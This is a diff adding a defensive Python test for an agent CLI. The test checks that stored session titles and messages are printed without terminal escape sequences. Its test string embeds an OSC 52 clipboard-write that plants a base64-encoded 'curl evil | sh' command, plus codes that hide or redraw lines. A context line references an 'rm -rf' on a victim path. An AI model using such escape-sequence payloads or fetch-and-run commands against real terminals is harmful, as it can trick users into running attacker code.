@@ -380,3 +380,23 @@ def test_an_approval_question_cannot_be_redrawn_by_escape_sequences_in_the_comma
     line = shown.split(f"rm -rf {victim}", 1)[1].split("It needs your approval", 1)[0]
     assert "\x1b" not in line, repr(line)
     assert (victim / "keep.txt").exists()
+
+
+def test_sessions_show_and_list_print_stored_text_without_terminal_escapes(
+    hermes: Any, hermes_home: Path
+) -> None:
+    """A transcript holds what chat users, web pages and MCP servers wrote: `hermes
+    sessions show` and `list` must not send their escape sequences to the terminal
+    (clipboard writes, hidden or redrawn lines)."""
+    hermes_home.mkdir(exist_ok=True)
+    evil = "hello\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2K\x1b[1Ahidden"
+    with StateDB() as db:
+        session = db.create_session(source="gateway:api", model="m", cwd="/", title=evil)
+        db.add_message(session, {"role": "user", "content": evil})
+        db.add_message(session, {"role": "tool", "tool_call_id": "c", "content": evil})
+    shown = hermes("sessions", "show", session)
+    assert shown.returncode == 0, shown.stderr
+    assert "hello" in shown.stdout and "\x1b" not in shown.stdout and "\x07" not in shown.stdout
+    listed = hermes("sessions", "list")
+    assert listed.returncode == 0, listed.stderr
+    assert "\x1b" not in listed.stdout, repr(listed.stdout)
